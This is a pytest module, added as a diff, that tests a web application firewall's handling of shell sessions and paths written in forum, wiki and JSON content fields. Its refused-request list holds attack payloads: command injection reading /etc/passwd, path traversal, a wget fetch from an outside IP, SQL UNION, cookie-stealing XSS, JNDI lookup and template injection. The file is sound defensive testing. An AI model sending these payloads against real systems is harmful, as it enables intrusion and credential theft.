@@ -1,0 +1,156 @@
+"""Documents in content fields (hostguard.waf.documents, data/waf/documents.toml): a person's writing in a field
+named for it may quote shell sessions and paths, and passes; the same text in any other field, a short
+injection in the same field, and every other kind of attack in a document are still refused. Through the real
+engine with CRS 3.3.4 and hostguard's rules, as a site gets them."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from urllib.parse import urlencode
+
+import pytest
+
+from hostguard.waf.documents import Documents, document_rules, load, parse
+from hostguard.waf.engine import Engine, Request
+from hostguard.waf.ruleset import WafSettings, assemble
+from tests.waf.test_engine import _need_library
+
+HEADERS = [("Host", "forum.example.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")]
+
+SHELL_POST = ("I ran:\n\n```sh\nsudo apt-get update && sudo apt-get install -y nginx\n"
+              "sudo systemctl status nginx | head -n 20\n```\n\nand it says the port is in use.")
+PATHS = "My vhost config is in /etc/nginx/sites-available/default and the logs in /var/log/nginx/error.log; help"
+TABLE = "| cmd | what |\n|---|---|\n| `ls -la` | list files |\n| `cat notes.txt` | show a file |\n"
+WIKI = "h2. Deploy\n{code:bash}\n./gradlew build && scp build/libs/app.jar deploy@192.0.2.20:/opt/app/\n{code}\n"
+ENTITIES = "Tom&rsquo;s &ldquo;quick&rdquo; guide&nbsp;&mdash; steps 1&ndash;3 &amp; FAQ &copy; 2025"
+
+
+@pytest.fixture(scope="module")
+def waf() -> Iterator[Engine]:
+    _need_library()
+    with Engine(text=assemble(WafSettings())) as engine:
+        yield engine
+
+
+def _form(fields: dict[str, str], target: str = "/forum/posts") -> Request:
+    body = urlencode(fields).encode()
+    return Request("POST", target, [*HEADERS, ("Content-Type", "application/x-www-form-urlencoded"),
+                                    ("Content-Length", str(len(body)))], body)
+
+
+def _json(value: object, target: str = "/api/v4/posts") -> Request:
+    body = json.dumps(value).encode()
+    return Request("POST", target, [*HEADERS, ("Content-Type", "application/json"),
+                                    ("Content-Length", str(len(body)))], body)
+
+
+def _text(text: str, content_type: str = "text/markdown; charset=utf-8") -> Request:
+    body = text.encode()
+    return Request("PUT", "/api/wiki/pages/deploy.md", [*HEADERS, ("Content-Type", content_type),
+                                                         ("Content-Length", str(len(body)))], body)
+
+
+DOCUMENTS_PASS = [
+    pytest.param(_form({"title": "nginx won't start", "body": SHELL_POST}), id="form-body-shell-session"),
+    pytest.param(_form({"description": PATHS}, "/support/tickets"), id="form-description-paths"),
+    pytest.param(_form({"text": TABLE}, "/wiki/save"), id="form-text-markdown-table"),
+    pytest.param(_form({"content": WIKI, "atl_token": "f653dea3"}, "/pages/doeditpage.action"), id="wiki-markup"),
+    pytest.param(_form({"body": ENTITIES}, "/kb/save"), id="named-character-references"),
+    pytest.param(_form({"post[body]": SHELL_POST}), id="rails-parent"),
+    pytest.param(_json({"channel_id": "x1", "message": SHELL_POST}), id="json-message"),
+    pytest.param(_json({"post": {"body": SHELL_POST}}), id="json-parent"),
+    pytest.param(_json({"data": {"attributes": {"body": PATHS}}}), id="json-api-attributes"),
+    pytest.param(_text(f"# Deploy\n\n{SHELL_POST}\n"), id="markdown-text-body"),
+]
+
+
+@pytest.mark.parametrize("request_", DOCUMENTS_PASS)
+def test_documents_in_content_fields_pass(waf: Engine, request_: Request) -> None:
+    verdict = waf.inspect(request_)
+    assert not verdict.disruptive, verdict.rule_ids
+
+
+def test_each_document_is_refused_without_the_documents_rules() -> None:
+    # what the documents rules change: the same rule set without their part refuses each of them
+    _need_library()
+    text = assemble(WafSettings())
+    start = text.index("# ---- hostguard data/waf/documents.toml")
+    end = text.index("SecMarker END_HOSTGUARD_DOCUMENTS\n", start)
+    with Engine(text=text[:start] + text[end:]) as without:
+        passed = [p.id for p in DOCUMENTS_PASS if not without.inspect(p.values[0]).disruptive]  # type: ignore[arg-type]
+    assert not passed, passed
+
+
+STILL_REFUSED = [
+    # the same document in a field not named for writing (a host name, a command, a file)
+    pytest.param(_form({"host": SHELL_POST}, "/tools/ping"), id="document-in-host-field"),
+    pytest.param(_form({"widget[body]": SHELL_POST}), id="parent-not-listed"),
+    pytest.param(_json({"cmd": SHELL_POST}, "/api/run"), id="document-in-json-cmd"),
+    # a short injection in a content field: no document
+    pytest.param(_form({"body": "; cat /etc/passwd"}), id="short-injection-in-body"),
+    pytest.param(_form({"comment": "../../../../etc/passwd"}), id="traversal-in-comment"),
+    pytest.param(_json({"message": "`wget http://198.51.100.7/x -O /tmp/x`"}), id="backticks-in-message"),
+    # a document in one field does not excuse an injection in another
+    pytest.param(_form({"body": SHELL_POST, "host": "192.0.2.1; cat /etc/passwd"}, "/tools/ping"),
+                 id="document-beside-injection"),
+    # every other kind of attack is still read in a document
+    pytest.param(_form({"body": f"{SHELL_POST}\n\n1' UNION SELECT username, password FROM users-- -"}),
+                 id="sql-in-document"),
+    pytest.param(_form({"body": f"{PATHS}\n<script>alert(document.cookie)</script>"}), id="xss-in-document"),
+    pytest.param(_json({"message": f"{SHELL_POST}\n${{jndi:ldap://198.51.100.7/a}}"}), id="jndi-in-document"),
+    pytest.param(_form({"body": f"{SHELL_POST}\n{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}"}),
+                 id="template-in-document"),
+    pytest.param(_text("; cat /etc/passwd", "text/plain"), id="short-text-body"),
+]
+
+
+@pytest.mark.parametrize("request_", STILL_REFUSED)
+def test_what_is_not_a_document_in_a_content_field_is_still_refused(waf: Engine, request_: Request) -> None:
+    verdict = waf.inspect(request_)
+    assert verdict.disruptive, verdict.rule_ids
+
+
+def test_the_shipped_table_reads_and_every_argument_has_a_rule() -> None:
+    documents = load()
+    text = document_rules(documents)
+    parented = [f for f in documents.forms if "{parent}" in f]
+    expected = len(documents.names) * (len(documents.forms) - len(parented) + len(parented) * len(documents.parents))
+    assert len(documents.arguments) == expected
+    for argument in documents.arguments:
+        assert f"SecRule ARGS:{argument} " in text
+    ids = [int(i) for i in re.findall(r"id:(\d+)", text)]
+    assert len(ids) == len(set(ids)) and min(ids) >= 10100 and max(ids) <= 10999
+
+
+def _table(**changes: object) -> dict[str, object]:
+    table: dict[str, object] = {"remove": [932105], "names": ["body"], "forms": ["{name}", "{parent}[{name}]"],
+                                "parents": ["post"], "shape": "[a-z]{2,}(?: [a-z]{2,}){3}"}
+    table.update(changes)
+    return table
+
+
+@pytest.mark.parametrize(("changes", "message"), [
+    ({"remove": []}, "remove must list rule ids"),
+    ({"remove": ["932105"]}, "remove must list rule ids"),
+    ({"names": []}, "names must list strings"),
+    ({"parents": ["po st"]}, "a parent is letters"),
+    ({"forms": ["json.{parent}"]}, "must name {name} once"),
+    ({"forms": ["{name}[{parent}]"]}, "after an optional {parent}"),
+    ({"shape": 'a"b'}, "without double quotes"),
+    ({"names": ["bo dy"]}, "argument name 'bo dy'"),
+    ({"colour": "red"}, "unknown key 'colour'"),
+    ({"names": [f"field{i}" for i in range(500)]}, "more than ids"),
+])
+def test_a_malformed_table_is_refused_naming_what_is_wrong(changes: dict[str, object], message: str) -> None:
+    with pytest.raises(ValueError, match=re.escape(message)):
+        parse(_table(**changes))
+
+
+def test_a_small_table_makes_rules_the_engine_loads() -> None:
+    _need_library()
+    documents = parse(_table())
+    assert isinstance(documents, Documents) and documents.arguments == ("body", "post[body]")
+    with Engine(text=document_rules(documents)) as engine:   # the rules alone load
+        assert not engine.inspect(_form({"body": "x"})).disruptive
